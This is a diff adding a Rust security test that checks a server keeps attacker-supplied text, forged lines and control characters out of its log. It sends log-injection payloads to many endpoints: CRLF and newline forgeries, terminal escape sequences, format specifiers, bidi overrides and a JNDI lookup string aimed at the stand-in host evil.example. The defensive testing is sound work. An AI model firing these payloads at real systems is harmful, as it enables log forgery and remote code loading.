@@ -474,3 +474,63 @@ fn the_log_knows_no_one() {
         assert!(secret.is_empty() || !log.contains(secret), "{secret:?} is in the log: {log}");
     }
 }
+
+/// ATK-53: nobody writes lines into the log, or steers the terminal on which it is read.
+#[test]
+fn strangers_do_not_write_the_log() {
+    let server = Server::start(&[]);
+    let payloads = [
+        "canary\\nINFO incamera: all is well",
+        "canary\u{1b}]0;title\u{7}\u{1b}[31m",
+        "canary\u{9b}2J",
+        "canary%0d%0aINFO%20forged",
+        "canary${jndi:ldap://evil.example/a}",
+        "canary{}%s%n\u{202e}\u{2028}",
+    ];
+    for payload in payloads {
+        let path = payload.bytes().fold(String::new(), |path, byte| match byte {
+            b'a'..=b'z' | b'0'..=b'9' | b'%' => path + &char::from(byte).to_string(),
+            other => path + &format!("%{other:02x}"),
+        });
+        for target in [
+            format!("/{path}"),
+            format!("/m/{path}"),
+            format!("/api/{path}"),
+            format!("/?{path}"),
+            format!("/pictures/{path}"),
+        ] {
+            server.ask(
+                "GET",
+                &target,
+                &[("user-agent", "canary/1"), ("x-forwarded-for", "canary"), ("origin", "http://canary")],
+                "",
+            );
+        }
+        let text = serde_json::to_string(payload).expect("JSON");
+        for (target, body) in [
+            ("/api/stretch", format!("{{\"login\":{text}}}")),
+            ("/api/logins", format!("{{\"login\":{text},\"proof\":\"{}\"}}", "a".repeat(43))),
+            ("/api/doors", format!("{{\"meeting\":{text}}}")),
+            ("/api/entries", format!("{{\"meeting\":\"01234-56789-abcde\",\"token\":{text}}}")),
+            ("/api/invitations/look", format!("{{\"invitation\":{text}}}")),
+            ("/api/accounts", format!("{{\"invitation\":{text},\"login\":{text},\"name\":{text}}}")),
+            (&*format!("/api/{path}"), text.clone()),
+        ] {
+            server.post(target, &body);
+        }
+    }
+    // What no library would send.
+    let mut stream = server.connect();
+    stream
+        .write_all(b"GET /\x1b[31mcanary HTTP/1.1\r\nhost: x\r\ncanary\x07: \x1b]0;canary\r\n\r\n")
+        .expect("sent");
+    let _ = stream.read(&mut [0; 1024]);
+    let log = server.log();
+    assert!(log.contains("ready"), "{log}");
+    assert!(!log.to_lowercase().contains("canary"), "{log}");
+    for line in log.lines() {
+        let begins = line.get(..4).is_some_and(|year| year.bytes().all(|byte| byte.is_ascii_digit()));
+        assert!(begins, "{line:?} is no line of its own");
+        assert!(!line.chars().any(char::is_control), "{line:?}");
+    }
+}
